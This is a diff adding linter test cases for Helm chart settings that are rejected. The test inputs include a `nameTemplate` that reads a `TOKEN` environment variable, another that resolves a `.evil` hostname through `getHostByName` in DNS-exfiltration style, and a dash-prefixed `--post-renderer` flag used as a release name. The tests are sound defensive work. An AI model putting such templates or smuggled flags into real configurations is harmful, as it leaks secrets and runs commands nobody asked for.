@@ -108,6 +108,16 @@ describe('charts on disk', () => {
       '`--post-renderer=./x` cannot be the name of a release; it starts with a dash',
     ],
     [
+      'helmCharts: [{name: shop, nameTemplate: "shop-{{ env `TOKEN` | lower }}"}]',
+      helmOf(''),
+      '`nameTemplate` asks `env` for what is not in the tree, and migrate-lint does not run it; give the release a `releaseName`',
+    ],
+    [
+      'helmCharts: [{name: shop, nameTemplate: "{{ $h := printf `%s.evil` .x }}{{ $h | getHostByName }}"}]',
+      helmOf(''),
+      '`nameTemplate` asks `getHostByName` for what is not in the tree, and migrate-lint does not run it; give the release a `releaseName`',
+    ],
+    [
       'helmCharts: [{name: shop, valuesMerge: both, valuesInline: {a: b}}]',
       helmOf(''),
       '`valuesMerge` must be merge, override or replace, but it is both',
